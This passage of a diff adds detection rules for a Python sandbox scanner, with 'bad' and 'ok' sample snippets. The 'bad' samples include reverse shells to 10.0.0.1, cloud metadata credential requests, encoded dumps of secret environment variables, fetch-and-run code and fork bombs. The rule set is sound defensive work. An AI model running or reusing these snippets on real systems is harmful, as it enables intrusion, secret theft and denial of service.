+        bad: ["import os, stat\nos.mknod('/tmp/a', 0o600 | stat.S_IFBLK, os.makedev(8, 0))"],
+        ok: ["import os\nos.mkfifo('/tmp/p')"],
+    },
+    {
+        id: 'py/sandbox-escape/root-shell',
+        languages: python_files_languages,
+        severity: 'high',
+        message: 'Becomes another user or leaves its namespace, and then runs a command',
+        recommendation: 'Run as the user the sandbox gives',
+        metadata: { capability: 'sandbox-escape', cwe: 'CWE-250' },
+        match: { combine: ['py/sandbox-escape/privileges', ['py/process/shell', 'py/process/outside-command', 'sh/*']] },
+        bad: ["import os\nos.setuid(0)\nos.system('make')"],
+        ok: ['import os\nos.setuid(1000)', "import os\nos.system('make')"],
+    },
+    {
+        id: 'py/sandbox-escape/privileges',
+        languages: python_files_languages,
+        severity: 'medium',
+        message: 'Changes the user, root folder or namespaces it runs in',
+        recommendation: 'Run as the user the sandbox gives',
+        metadata: { capability: 'sandbox-escape', cwe: 'CWE-250' },
+        match: {
+            call: [
+                'os.setuid',
+                'os.setgid',
+                'os.seteuid',
+                'os.setresuid',
+                'os.setreuid',
+                'os.setgroups',
+                'os.initgroups',
+                'os.chroot',
+                'os.unshare',
+                'os.setns',
+                'os.pivot_root',
+            ],
+        },
+        bad: ['import os\nos.setuid(0)', 'from os import chroot as c\nc("/mnt")', 'import os\nos.unshare(os.CLONE_NEWNS)'],
+        ok: ['import os\nprint(os.getuid())', 'import os\nos.umask(0o22)'],
+    },
+];
+
+;// CONCATENATED MODULE: ./build/rules/python-network.js
+const python_network_languages = ['python'];
+const MODULES = [
+    'socket',
+    'socketserver',
+    'ssl',
+    'requests*',
+    'urllib.request',
+    'urllib',
+    'urllib3*',
+    'http.client',
+    'http.server',
+    'httpx',
+    'aiohttp*',
+    'ftplib',
+    'smtplib',
+    'telnetlib',
+    'poplib',
+    'imaplib',
+    'xmlrpc*',
+    'paramiko*',
+    'websocket*',
+    'websockets*',
+    'scapy*',
+    'dns*',
+    'boto3',
+    'pycurl',
+    'tornado*',
+    'twisted*',
+    'grpc',
+    'zmq',
+];
+const SENDERS = [
+    'socket.socket.connect*',
+    'socket.socket.send*',
+    'socket.create_connection*',
+    'socket.gethostbyname*',
+    'socket.getaddrinfo',
+    'requests.*',
+    'httpx.*',
+    'aiohttp.*',
+    'urllib.request.*',
+    'urllib3.*',
+    'http.client.*',
+    'ftplib.*',
+    'smtplib.*',
+    'telnetlib.*',
+    'xmlrpc.client.*',
+    'paramiko.*',
+    'websocket*',
+    'websockets.*',
+    'dns.*',
+    'pycurl.*',
+    'asyncio.open_connection',
+    'webbrowser.open*',
+    'ssl.*.wrap_socket*',
+    'boto3.*',
+    '?.sendall',
+    '?.sendto',
+];
+const GETTERS = [
+    'requests.get',
+    'requests.request',
+    'requests.Session.get',
+    'httpx.get',
+    'httpx.Client.get',
+    'urllib.request.urlopen',
+    'urllib.request.urlretrieve',
+    'urllib.request.Request',
+    'aiohttp.ClientSession.get',
+    'urllib3.PoolManager.request',
+    'http.client.*.request',
+    'http.client.*.getresponse',
+    'wget.download',
+    'ftplib.FTP.retr*',
+    'socket.socket.recv*',
+    'pip.main',
+    'pip._internal.*',
+];
+const python_network_METADATA = [
+    '169.254.169.254',
+    '169.254.170.2',
+    'metadata.google.internal',
+    'metadata.goog',
+    '100.100.100.200',
+    'fd00:ec2::254',
+    '2852039166',
+    '0xa9fea9fe',
+    '192.0.0.192',
+    '168.63.129.16',
+];
+const python_network_SECRET_NAMES = [
+    '*TOKEN*',
+    '*SECRET*',
+    '*PASSWORD*',
+    '*PASSWD*',
+    '*API_KEY*',
+    '*APIKEY*',
+    '*PRIVATE_KEY*',
+    '*CREDENTIAL*',
+    '*ACCESS_KEY*',
+    '*AUTH*',
+    '*_PAT',
+].map((name) => `os.environ.${name}`);
+const PROCESSES = [
+    'multiprocessing.Process*',
+    'multiprocessing.Pool*',
+    'subprocess.*',
+    'os.system',
+    'os.popen',
+    'os.spawn*',
+    'os.posix_spawn*',
+    'concurrent.futures.ProcessPoolExecutor*',
+    'threading.Thread*',
+    'threading.start_new_thread',
+];
+const networkRules = [
+    {
+        id: 'py/network/use',
+        languages: python_network_languages,
+        severity: 'low',
+        message: 'Uses the network',
+        recommendation: 'Work on files and parameters: the sandbox has no network',
+        metadata: { capability: 'network' },
+        match: [{ import: MODULES }],
+        bad: [
+            'import socket',
+            'import requests as r',
+            'from urllib.request import urlopen',
+            'import http.client as h',
+            "__import__('socket')",
+        ],
+        ok: [
+            '# import socket',
+            "socket = 'tcp'\nprint(socket)",
+            'from urllib.parse import quote\nprint(quote("a b"))',
+            'config = {"websocket": True}',
+        ],
+    },
+    {
+        id: 'py/network/send',
+        languages: python_network_languages,
+        severity: 'low',
+        message: 'Sends something over the network',
+        recommendation: 'Work on files and parameters: the sandbox has no network',
+        metadata: { capability: 'network', cwe: 'CWE-200' },
+        tags: ['send'],
+        match: { call: SENDERS },
+        bad: [
+            "import requests\nrequests.post('https://example.org', data='x')",
+            "import socket\ns = socket.socket()\ns.connect(('example.org', 80))",
+            "import http.client as h\nh.HTTPSConnection('example.org').request('GET', '/')",
+            "import smtplib\nsmtplib.SMTP('example.org').sendmail('a', 'b', 'c')",
+            "from urllib.request import urlopen as u\nu('https://example.org')",
+            "import socket\nsocket.gethostbyname('example.org')",
+            "import requests\nwith requests.Session() as s:\n    s.put('https://example.org')",
+        ],
+        ok: ['import socket', "requests = {}\nrequests.get('x')", 'import urllib.parse\nurllib.parse.urlencode({})'],
+    },
+    {
+        id: 'py/network/download',
+        languages: python_network_languages,
+        severity: 'low',
+        message: 'Gets data from the network',
+        recommendation: 'Have the data in the repository',
+        metadata: { capability: 'network', cwe: 'CWE-494' },
+        tags: ['download'],
+        match: { call: GETTERS },
+        bad: [
+            "import requests\nrequests.get('https://example.org')",
+            "import urllib.request as u\nu.urlretrieve('https://example.org/x', 'x')",
+            'import socket\ns = socket.socket()\ns.recv(1)',
+        ],
+        ok: ['import requests', "d = {}\nd.get('https://example.org')"],
+    },
+    {
+        id: 'py/network/metadata-address',
+        languages: python_network_languages,
+        severity: 'high',
+        message: 'Asks the cloud’s metadata service, which hands out the machine’s credentials',
+        recommendation: 'Leave the machine’s identity alone',
+        metadata: { capability: 'network', cwe: 'CWE-918' },
+        match: {
+            call: [...SENDERS, ...GETTERS, '?.get', '?.post', '?.request', '?.connect', '?.open', '?.fetch', '?.urlopen'],
+            where: { arg: 'any', contains: python_network_METADATA },
+        },
+        bad: [
+            "import urllib.request as u\nu.urlopen('http://169.254.169.254/latest/meta-data/')",
+            "import requests\nhost = '169.254.' + '169.254'\nrequests.get(f'http://{host}/latest')",
+            "import http.client\nhttp.client.HTTPConnection('metadata.google.internal')",
+            "import socket\nsocket.create_connection(('169.254.169.254', 80))",
+            "import requests\nip = '.'.join(map(str, [169, 254, 169, 254]))\nrequests.get('http://' + ip)",
+        ],
+        ok: [
+            "print('169.254.169.254')",
+            "import ipaddress\nipaddress.ip_address('169.254.169.254').is_link_local",
+            "import requests\nrequests.get('https://example.org')",
+        ],
+    },
+    {
+        id: 'py/network/reverse-shell',
+        languages: python_network_languages,
+        severity: 'high',
+        message: 'Ties a shell to a network connection',
+        recommendation: 'Never hand a shell to the network',
+        metadata: { capability: 'network', cwe: 'CWE-506' },
+        match: [
+            {
+                all: [
+                    { call: ['socket.socket.connect*', 'socket.create_connection', 'socket.socket.bind'] },
+                    { call: 'os.dup2', where: { arg: 0, is: 'external' } },
+                ],
+            },
+            {
+                all: [
+                    { call: ['socket.socket*', 'socket.create_*', 'asyncio.open_connection'] },
+                    { call: ['subprocess.*'], where: { arg: ['stdin', 'stdout'], is: 'external' } },
+                ],
+            },
+            {
+                all: [
+                    { call: ['socket.socket.connect*', 'socket.create_*', 'socket.socket.bind'] },
+                    { call: ['pty.spawn', 'pty.fork', 'os.forkpty', 'os.exec*'] },
+                ],
+            },
+            {
+                all: [
+                    {
+                        call: [
+                            'socket.socket.recv*',
+                            'socket.socket.makefile*',
+                            'socket.create_connection.recv*',
+                            'socket.socket.accept*',
+                            '*.recv',
+                        ],
+                    },
+                    { call: ['subprocess.*', 'os.system', 'os.popen', 'exec', 'eval'], where: { arg: 0, is: 'external' } },
+                ],
+            },
+        ],
+        bad: [
+            "import socket, os, subprocess\ns = socket.socket()\ns.connect(('10.0.0.1', 4444))\nos.dup2(s.fileno(), 0)\nsubprocess.call(['/bin/sh', '-i'])",
+            "import socket, subprocess as p\nc = socket.create_connection(('10.0.0.1', 1))\np.Popen('sh', stdin=c, stdout=c, stderr=c)",
+            "import socket as s, pty\nx = s.socket()\nx.connect(('10.0.0.1', 1))\npty.spawn('sh')",
+            "import socket, os\ns = socket.socket()\ns.connect(('10.0.0.1', 1))\nwhile True:\n    s.send(os.popen(s.recv(1024).decode()).read().encode())",
+        ],
+        ok: [
+            "import socket\ns = socket.socket()\ns.connect(('example.org', 80))\nprint(s.recv(10))",
+            "import subprocess\nsubprocess.run(['ls'], stdin=subprocess.DEVNULL)",
+            'import os\nos.dup2(1, 2)',
+        ],
+    },
+    {
+        id: 'py/network/serves',
+        languages: python_network_languages,
+        severity: 'low',
+        message: 'Waits for connections',
+        recommendation: 'A program in the sandbox cannot be reached; call the handler directly',
+        metadata: { capability: 'network', cwe: 'CWE-1327' },
+        tags: ['serves'],
+        match: {
+            call: [
+                'socketserver.*',
+                'http.server.*',
+                'xmlrpc.server.*',
+                'wsgiref.*',
+                'socket.create_server',
+                'socket.socket.listen',
+                'socket.socket.accept',
+                'asyncio.start_server',
+                'websockets.serve',
+                'flask.Flask',
+                'aiohttp.web.*',
+                'fastapi.FastAPI',
+                'bottle.*',
+                'tornado.web.*',
+            ],
+        },
+        bad: ["import http.server as h\nh.HTTPServer(('127.0.0.1', 80), h.SimpleHTTPRequestHandler)"],
+        ok: ['import http.client', "print('flask.Flask')"],
+    },
+    {
+        id: 'py/network/listen',
+        languages: python_network_languages,
+        severity: 'medium',
+        message: 'Opens a port to every network',
+        recommendation: 'Bind to 127.0.0.1, or not at all',
+        metadata: { capability: 'network', cwe: 'CWE-1327' },
+        match: {
+            call: [
+                'socket.socket.bind',
+                'socket.create_server',
+                'http.server.*',
+                'socketserver.*',
+                'asyncio.start_server',
+                '?.run',
+            ],
+            where: { arg: 'any', equals: ['0.0.0.0', '::'] },
+        },
+        bad: [
+            "import socket\ns = socket.socket()\ns.bind(('0.0.0.0', 80))",
+            "import http.server as h\nh.HTTPServer(('0.0.0.0', 1), h.SimpleHTTPRequestHandler)",
+        ],
+        ok: ["import socket\ns = socket.socket()\ns.bind(('127.0.0.1', 0))", "print('0.0.0.0')"],
+    },
+    {
+        id: 'py/environment-secrets/environment',
+        languages: python_network_languages,
+        severity: 'low',
+        message: 'Reads environment variables',
+        recommendation: 'Take what the program needs as parameters',
+        metadata: { capability: 'environment-secrets' },
+        match: [{ attribute: ['os.environ.*'] }, { call: ['os.getenv', 'os.environ.*'] }],
+        bad: [
+            "import os\nprint(os.environ['HOME'])",
+            "from os import environ as e\ne.get('LANG')",
+            "import os\nos.getenv('PATH')",
+        ],
+        ok: ['environ = {}\nenviron.get("x")', "import os\nos.environ['LANG'] = 'C'"],
+    },
+    {
+        id: 'py/environment-secrets/whole-environment',
+        languages: python_network_languages,
+        severity: 'low',
+        message: 'Takes the whole environment with every secret in it',
+        recommendation: 'Read single variables by name',
+        metadata: { capability: 'environment-secrets', cwe: 'CWE-526' },
+        tags: ['secrets'],
+        match: { attribute: ['os.environ'] },
+        bad: [
+            'import os\nenv = dict(os.environ)',
+            'import os\nfor k, v in os.environ.items():\n    print(k)',
+            'from os import environ as e\nx = {**e}',
+        ],
+        ok: ["import os\nos.environ['HOME']", "import os\nos.environ.get('LANG')"],
+    },
+    {
+        id: 'py/environment-secrets/environment-shown',
+        languages: python_network_languages,
+        severity: 'medium',
+        message: 'Prints or stores the whole environment with every secret in it',
+        recommendation: 'Read single variables by name',
+        metadata: { capability: 'environment-secrets', cwe: 'CWE-526' },
+        tags: ['secrets'],
+        match: {
+            call: [
+                'print',
+                'pprint.*',
+                'json.dump',
+                'sys.stdout.write',
+                'sys.stderr.write',
+                'open.write',
+                'logging.*',
+                'pickle.dumps',
+                'base64.*',
+            ],
+            where: { arg: 0, path: 'os.environ' },
+        },
+        bad: [
+            'import os\nprint(os.environ)',
+            'import os, json\nprint(json.dumps(dict(os.environ)))',
+            'from os import environ as e\nprint(str(e))',
+        ],
+        ok: ["import os\nprint(os.environ['LANG'])", 'import os, subprocess\nsubprocess.run(["ls"], env=dict(os.environ))'],
+    },
+    {
+        id: 'py/environment-secrets/secret-variable',
+        languages: python_network_languages,
+        severity: 'medium',
+        message: 'Reads an environment variable that is named like a secret',
+        recommendation: 'Leave secrets out of programs that run in the sandbox',
+        metadata: { capability: 'environment-secrets', cwe: 'CWE-526' },
+        tags: ['secrets'],
+        match: [
+            { attribute: python_network_SECRET_NAMES },
+            {
+                call: ['keyring.get_password', 'keyring.get_credential', 'getpass.getpass'],
+                where: { arg: 'any', is: 'present' },
+            },
+            { call: ['browser_cookie3.*', 'browsercookie.*', 'pycookiecheat.*'] },
+        ],
+        bad: [
+            "import os\nos.environ['GITHUB_TOKEN']",
+            "import os\nos.getenv('AWS_SECRET_ACCESS_KEY')",
+            "from os import environ as e\ne.get('DB_' + 'PASSWORD')",
+            "import os\nfor k in ['NPM_TOKEN', 'LANG']:\n    os.environ.get(k)",
+            "import keyring\nkeyring.get_password('a', 'b')",
+        ],
+        ok: ["import os\nos.environ['HOME']", "import os\nos.getenv('LANG', 'C')", "token = 'x'\nprint(token)"],
+    },
+    {
+        id: 'py/environment-secrets/encoded',
+        languages: python_network_languages,
+        severity: 'high',
+        message: 'Writes secrets of the environment in another form, so that masking does not see them',
+        recommendation: 'Leave secrets out of what is printed',
+        metadata: { capability: 'environment-secrets', cwe: 'CWE-200' },
+        match: {
+            all: [
+                { attribute: [...python_network_SECRET_NAMES, 'os.environ', 'os.environ.encode'] },
+                { obfuscation: 'encoded-environment' },
+            ],
+        },
+        bad: [
+            "import os\nprint(os.environ['NPM_TOKEN'][::-1])",
+            "import os\nprint(' '.join(os.environ['GITHUB_TOKEN']))",
+            'import os, base64, json\nprint(base64.b64encode(json.dumps(dict(os.environ)).encode()))',
+        ],
+        ok: [
+            "import os\nprint(os.environ['HOME'][::-1])",
+            "import os\nprint(os.pathsep.join(os.environ['PATH'].split(':')))",
+            "import base64\nprint(base64.b64encode(b'x'))",
+        ],
+    },
+    {
+        id: 'py/resource-exhaustion/endless-loop',
+        languages: python_network_languages,
+        severity: 'low',
+        message: 'Has a loop without an end',
+        recommendation: 'Bound the loop',
+        metadata: { capability: 'resource-exhaustion', cwe: 'CWE-835' },
+        tags: ['endless'],
+        match: { loop: { endless: true } },
+        bad: [
+            'while True:\n    pass',
+            'import itertools as i\nfor x in i.count():\n    print(x)',
+            'while 1:\n    for x in []:\n        break',
+            'while not False:\n    print(1)',
+            'for _ in iter(int, 1):\n    pass',
+        ],
+        ok: [
+            'while True:\n    break',
+            'n = 3\nwhile n:\n    n -= 1',
+            'def f():\n    while True:\n        yield 1',
+            'while True:\n    if input() == "q":\n        raise SystemExit',
+            'for x in range(10):\n    pass',
+        ],
+    },
+    {
+        id: 'py/resource-exhaustion/process-bomb',
+        languages: python_network_languages,
+        severity: 'high',
+        message: 'Starts processes or threads without an end',
+        recommendation: 'Bound the number of processes and wait for each',
+        metadata: { capability: 'resource-exhaustion', cwe: 'CWE-400' },
+        match: [
+            { loop: { endless: true, calls: PROCESSES } },
+            { loop: { calls: ['os.fork', 'os.forkpty', 'pty.fork'] } },
+            { all: [{ loop: { endless: true } }, { call: ['os.fork'] }] },
+            { function: { selfCalls: 1, calls: ['os.fork', 'os.forkpty', 'pty.fork', ...PROCESSES] } },
+            // A timer that starts itself once is a clock; one that starts itself twice is a bomb.
+            { function: { selfCalls: 2, calls: ['threading.Timer', 'asyncio.create_task', 'asyncio.ensure_future'] } },
+            { loop: { rounds: 5000, calls: PROCESSES } },
+            {
+                call: ['multiprocessing.Pool', 'multiprocessing.pool.*', 'concurrent.futures.*Executor'],
+                where: { arg: [0, 'processes', 'max_workers'], atLeast: 1000 },
+            },
+        ],
+        bad: [
+            'import os\nwhile True:\n    os.fork()',
+            'import os\nfor _ in range(1000):\n    os.fork()',
+            'from multiprocessing import Process\ndef f():\n    while True:\n        Process(target=f).start()\nf()',
+            'import os\n[os.fork() for _ in range(100)]',
+            'import threading, itertools\nfor _ in itertools.count():\n    threading.Thread(target=print).start()',
+            'import os\nf = os.fork\ndef bomb():\n    f()\nwhile 1:\n    bomb()',
+            'import subprocess\nwhile True:\n    subprocess.Popen(["sleep", "100"])',
+            'import os\ndef boom():\n    os.fork()\n    boom()\nboom()',
+            'from threading import Timer\ndef t():\n    Timer(0, t).start(); Timer(0, t).start()\nt()',
+            'import subprocess\nfor _ in range(10 ** 6):\n    subprocess.Popen(["sleep", "9"])',
+        ],
+        ok: [
+            'import subprocess\ndef fact(n):\n    return 1 if n < 2 else n * fact(n - 1)\nsubprocess.run(["ls"])',
+            'import os\nif os.fork() == 0:\n    os._exit(0)',
+            'import threading\nfor i in range(4):\n    threading.Thread(target=print).start()',
+            'while True:\n    print(1)',
+            'import subprocess\nfor f in ["a", "b"]:\n    subprocess.run(["wc", f])',
+            'from threading import Timer\ndef tick():\n    print(1)\n    Timer(1, tick).start()\ntick()',
+        ],
+    },
+    {
+        id: 'py/resource-exhaustion/memory',
+        languages: python_network_languages,
+        severity: 'medium',
+        message: 'Takes memory without bounds, or more than a gigabyte',
+        recommendation: 'Work on parts of the data',
+        metadata: { capability: 'resource-exhaustion', cwe: 'CWE-770' },
+        match: { allocation: { atLeast: 1e9 } },
+        bad: [
+            "x = 'a' * 10**10",
+            'x = [0] * (1 << 30)',
+            'b = bytearray(4 * 1024 ** 3)',
+            'x = []\nwhile True:\n    x.append(" " * 10**6)',
+            's = "x"\nwhile True:\n    s += s',
+            '9 ** 9 ** 9 ** 2',
+            'list(range(10**10))',
+            'import numpy as np\nnp.zeros((100000, 100000))',
+        ],
+        ok: [
+            "x = 'a' * 100",
+            'print(2 ** 1000 % 97)',
+            'sum(range(10 ** 9))',
+            'x = []\nwhile True:\n    x.append(1)\n    if len(x) > 3:\n        break',
+            'b = bytearray(1024)',
+        ],
+    },
+    {
+        id: 'py/resource-exhaustion/memory-bomb',
+        languages: python_network_languages,
+        severity: 'high',
+        message: 'Takes more memory than any machine has',
+        recommendation: 'Work on parts of the data',
+        metadata: { capability: 'resource-exhaustion', cwe: 'CWE-770' },
+        match: { allocation: { atLeast: 3e10 } },
+        bad: [
+            'x = []\nwhile True:\n    x.append(" " * 10**6)',
+            'b = bytearray(64 * 1024 ** 3)',
+            's = "x"\nwhile True:\n    s += s',
+            'print(9 ** 9 ** 9 ** 2)',
+        ],
+        ok: [
+            "x = 'a' * 100",
+            'x = [0] * (10 ** 9)',
+            'x = []\nwhile True:\n    x.append(1)\n    if len(x) > 3:\n        break',
+        ],
+    },
+    {
+        id: 'py/resource-exhaustion/disk',
+        languages: python_network_languages,
+        severity: 'high',
+        message: 'Writes without an end',
+        recommendation: 'Bound what is written',
+        metadata: { capability: 'resource-exhaustion', cwe: 'CWE-400' },
+        match: {
+            loop: {
+                endless: true,
+                calls: ['*.write', '*.writelines', 'pathlib.Path.write_*', 'open', 'os.write', 'os.mkdir', 'os.makedirs'],
+            },
+        },
+        bad: [
+            "with open('x', 'wb') as f:\n    while True:\n        f.write(b'0' * 4096)",
+            "i = 0\nwhile True:\n    open(f'f{i}', 'w')\n    i += 1",
+        ],
+        ok: ["with open('x', 'w') as f:\n    for i in range(3):\n        f.write('x')", "while True:\n    print('x')"],
+    },
+    {
+        id: 'py/resource-exhaustion/limits',
+        languages: python_network_languages,
+        severity: 'medium',
+        message: 'Lifts a limit of the interpreter or the system',
+        recommendation: 'Keep the limits as they are',
+        metadata: { capability: 'resource-exhaustion', cwe: 'CWE-770' },
+        match: [
+            { call: 'sys.setrecursionlimit', where: { arg: 0, atLeast: 1e6 } },
+            { call: 'resource.setrlimit' },
+            { call: ['math.factorial'], where: { arg: 0, atLeast: 1e6 } },
+            { call: ['sys.set_int_max_str_digits'], where: { arg: 0, atMost: 0 } },
+        ],
+        bad: [
+            'import sys\nsys.setrecursionlimit(10**9)',
+            'import resource\nresource.setrlimit(resource.RLIMIT_AS, (-1, -1))',
+            'import math\nmath.factorial(10**8)',
+        ],
+        ok: [
+            'import sys\nsys.setrecursionlimit(10000)',
+            'import math\nmath.factorial(10)',
+            'import resource\nprint(resource.getrlimit(resource.RLIMIT_AS))',
+        ],
+    },
+];
+
+;// CONCATENATED MODULE: ./build/rules/python-process.js
+const python_process_languages = ['python'];
+const SUBPROCESS = [
+    'subprocess.run',
+    'subprocess.call',
+    'subprocess.check_call',
+    'subprocess.check_output',
+    'subprocess.Popen',
+];
+const SHELL = [
+    'os.system',
+    'os.popen*',
+    'subprocess.getoutput',
+    'subprocess.getstatusoutput',
+    'asyncio.create_subprocess_shell',
+    'pexpect.spawn',
+    'pexpect.run',
+    'platform.popen',
+];
+const EXEC = [
+    '_posixsubprocess.fork_exec',
+    'distutils.spawn.spawn',
+    'os.exec*',
+    'os.spawn*',
+    'os.posix_spawn*',
+    'asyncio.create_subprocess_exec',
+    'pty.spawn',
+];
+const python_process_STARTERS = [...SUBPROCESS, ...SHELL, ...EXEC];
+const OWN_FILE = '${__file__}';
+const python_process_processRules = [
+    {
+        id: 'py/process/subprocess',
+        languages: python_process_languages,
+        severity: 'low',
+        message: 'Starts other processes',
+        recommendation: 'Do the work in the program itself',
+        metadata: { capability: 'process', cwe: 'CWE-78' },
+        match: [
+            { import: ['subprocess', 'pty', 'multiprocessing*', 'pexpect', 'sh', 'plumbum'] },
+            { call: python_process_STARTERS },
+            { call: ['multiprocessing.*', 'concurrent.futures.ProcessPoolExecutor'] },
+        ],
+        bad: [
+            "import subprocess\nsubprocess.run(['ls'])",
+            'from subprocess import run as r',
+            'import multiprocessing as mp',
+            "import asyncio\nasync def f():\n    await asyncio.create_subprocess_exec('ls')",
+        ],
+        ok: [
+            '# import subprocess',
+            'subprocess = 1\nprint(subprocess)',
+            "print('subprocess.run')",
+            'config = {"subprocess": 1}',
+        ],
+    },
+    {
+        id: 'py/process/shell',
+        languages: python_process_languages,
+        severity: 'medium',
+        message: 'Starts a shell command',
+        recommendation: 'Pass an argument list to subprocess.run and leave the shell out',
+        metadata: { capability: 'process', cwe: 'CWE-78' },
+        tags: ['execute'],
+        match: [
+            { call: SHELL },
+            { call: SUBPROCESS, where: { arg: 'shell', is: ['true', 'non-literal'] } },
+            { call: [...SUBPROCESS, ...EXEC], where: { arg: 'any', regex: '^(?:/(?:usr/)?bin/)?(?:ba|da|z|k|c|a)?sh$' } },
+            { call: 'pty.spawn' },
+        ],
+        bad: [
+            "import os as o\no.system('id')",
+            "from os import popen\npopen('id')",
+            "import subprocess\nsubprocess.run('ls | wc', shell=True)",
+            "import subprocess\nsubprocess.run(['bash', '-c', 'ls'])",
+            "import subprocess as s\nf = s.getoutput\nf('id')",
+            "import functools, os\nfunctools.partial(os.system, 'id')()",
+            "import os\nlist(map(os.system, ['id']))",
+            "import asyncio\nasync def f():\n    await asyncio.create_subprocess_shell('ls')",
+            "from os import *\nsystem('id')",
+            "import os\nrun = {'x': os.system}\nrun['x']('id')",
+            "import os, threading\nthreading.Thread(target=os.system, args=('id',)).start()",
+            "import os\n(lambda f=os.system: f('id'))()",
+            "import os, atexit\natexit.register(os.system, 'id')",
+            "import posix\nposix.system('id')",
+            "import commands\ncommands.getoutput('id')",
+        ],
+        ok: [
+            "# os.system('id')",
+            "print('os.system')",
+            "import subprocess\nsubprocess.run(['ls', '-l'])",
+            'import platform\nplatform.system()',
+            'class os:\n    @staticmethod\n    def system(x):\n        return x\nos.system("id")',
+            "TEXT = '''\nimport os\nos.system('id')\n'''\nprint(TEXT)",
+        ],
+    },
+    {
+        id: 'py/process/renamed-shell',
+        languages: python_process_languages,
+        severity: 'high',
+        message: 'Starts a shell command by a function that goes under another name',
+        recommendation: 'Call the function by its own name, or leave the shell out',
+        metadata: { capability: 'process', cwe: 'CWE-506' },
+        match: [
+            { call: SHELL, renamed: true },
+            { call: SUBPROCESS, renamed: true, where: { arg: 'shell', is: ['true', 'non-literal'] } },
+            {
+                call: [...SUBPROCESS, ...EXEC],
+                renamed: true,
+                where: { arg: 'any', regex: '^(?:/(?:usr/)?bin/)?(?:ba|da|z|k|c|a)?sh$' },
+            },
+        ],
+        bad: [
+            "from os import system as greet\ngreet('make')",
+            "import os\nrun = os.system\nrun('make')",
+            "import subprocess\nT = {'go': subprocess.getoutput}\nprint(T['go']('make'))",
+            "import subprocess as s\ngo = s.Popen\ngo(['bash', '-c', 'make'])",
+        ],
+        ok: [
+            "from os import system\nsystem('make')",
+            "import subprocess as sp\nsp.run('ls | wc', shell=True)",
+            "from subprocess import run as r\nr(['ls'])",
+        ],
+    },
+    {
+        id: 'py/process/probe',
+        languages: python_process_languages,
+        severity: 'high',
+        message: 'Asks a shell who and where it is, as an intruder does first',
+        recommendation: 'Leave it out; `os` and `platform` tell what a program needs to know',
+        metadata: { capability: 'process', cwe: 'CWE-78' },
+        match: {
+            call: [...SHELL, ...SUBPROCESS, ...EXEC],
+            where: {
+                arg: 'any',
+                regex: '^(?:/usr)?(?:/bin/)?(?:id|whoami|env|printenv|netstat|ifconfig)(?:$|[;&| ])|^(?:cat|less|head|strings) /(?:etc/(?:passwd|shadow|hosts)|proc/[a-z0-9]{1,7}/environ)',
+            },
+        },
+        bad: [
+            "import os\nos.system('id')",
+            "import os\nprint(os.popen('whoami').read())",
+            "import subprocess\nsubprocess.check_output('cat /etc/passwd', shell=True)",
+            "import subprocess as s\nf = s.getoutput\nf('id; uname -a')",
+        ],
+        ok: ["import os\nos.system('make')", "import subprocess\nsubprocess.run(['identify', 'a.png'])", "print('whoami')"],
+    },
+    {
+        id: 'py/process/fetched-module',
+        languages: python_process_languages,
+        severity: 'high',
+        message: 'Fetches a program from the network and runs it as a module',
+        recommendation: 'Have the code in the repository, where it can be read before it runs',
+        metadata: { capability: 'process', cwe: 'CWE-494' },
+        match: { combine: ['download', 'py/dynamic-code/file-as-code'] },
+        bad: [
+            "import runpy, urllib.request as u\nu.urlretrieve('http://example.org/a.py', 'a.py')\nrunpy.run_path('a.py')",
+            "import importlib.util as i, requests\nopen('/tmp/x.py', 'w').write(requests.get('http://example.org').text)\ns = i.spec_from_file_location('x', '/tmp/x.py')\ns.loader.exec_module(i.module_from_spec(s))",
+        ],
+        ok: ["import runpy\nrunpy.run_path('a.py')", "import requests\nprint(requests.get('http://example.org').text)"],
+    },
+    {
+        id: 'py/process/outside-command',
+        languages: python_process_languages,
+        severity: 'medium',
+        message: 'Starts a command that comes from outside the program',
+        recommendation: 'Choose between known commands',
+        metadata: { capability: 'process', cwe: 'CWE-78' },
+        match: { call: [...SUBPROCESS, ...EXEC], where: { arg: [0, 'args'], is: 'external' } },
+        bad: [
+            'import subprocess\nsubprocess.run(input().split())',
+            'import subprocess, sys\nsubprocess.run(sys.argv[1:])',
+            'import subprocess\ndef run(cmd):\n    subprocess.run(cmd)',
+        ],
+        ok: [
+            "import subprocess\nsubprocess.run(['ls'])",
+            "import subprocess\ncmd = ['git', 'status']\nsubprocess.run(cmd)",
+        ],
+    },
+    {
+        id: 'py/process/given-command',
+        languages: python_process_languages,
+        severity: 'low',
+        message: 'Runs a command that is not known before the program runs',
+        recommendation: 'Choose between known commands',
+        metadata: { capability: 'process', cwe: 'CWE-78' },
+        tags: ['runs-given'],
+        match: { call: [...python_process_STARTERS, 'eval', 'exec'], where: { arg: [0, 'args'], is: ['unknown', 'external', 'path'] } },
+        bad: ['import os\ndef f(c):\n    os.system(c)', 'exec(input())'],
+        ok: ["import os\nos.system('make')", "exec('x = 1')"],
+    },
+    {
+        id: 'py/process/kill',
+        languages: python_process_languages,
+        severity: 'medium',
+        message: 'Sends signals to other processes',
+        recommendation: 'End only processes that the program started, through their own object',
+        metadata: { capability: 'process', cwe: 'CWE-400' },
+        match: [
+            {
+                call: ['os.kill', 'os.killpg'],
+                where: [
+                    { arg: 0, path: 'os.getpid()', not: true },
+                    { arg: 1, equals: '0', not: true },
+                    { arg: 1, atMost: 0, not: true },
+                ],
+            },
+            { call: ['signal.pidfd_send_signal'] },
+        ],
+        bad: [
+            'import os\nos.kill(123, 9)',
+            'from os import kill as k\nk(1, 15)',
+            'import os, signal\ndef f(p):\n    os.kill(p, signal.SIGKILL)',
+        ],
+        ok: [
+            'import os, signal\nos.kill(os.getpid(), signal.SIGUSR1)',
+            'import os\nos.kill(123, 0)',
+            'import signal\nsignal.signal(signal.SIGTERM, print)',
+        ],
+    },
+    {
+        id: 'py/process/kill-all',
+        languages: python_process_languages,
+        severity: 'high',
+        message: 'Kills every process it can reach, or the first one',
+        recommendation: 'End only processes that the program started',
+        metadata: { capability: 'process', cwe: 'CWE-400' },
+        match: [
+            {
+                call: 'os.kill',
+                where: [
+                    { arg: 0, atMost: -1 },
+                    { arg: 1, atMost: 0, not: true },
+                ],
+            },
+            {
+                call: ['os.kill', 'os.killpg'],
+                where: [
+                    { arg: 0, atLeast: 0, atMost: 1 },
+                    { arg: 1, atMost: 0, not: true },
+                ],
+            },
+            { call: ['os.kill', 'os.killpg'], where: { arg: 0, path: ['os.getppid()', 'os.getpgid()'] } },
+            {
+                all: [
+                    { call: ['os.listdir', 'os.scandir', 'glob.*', 'pathlib.Path.*'], where: { arg: 0, prefix: '/proc' } },
+                    { call: ['os.kill', 'os.killpg'], where: { arg: 1, equals: '0', not: true } },
+                ],
+            },
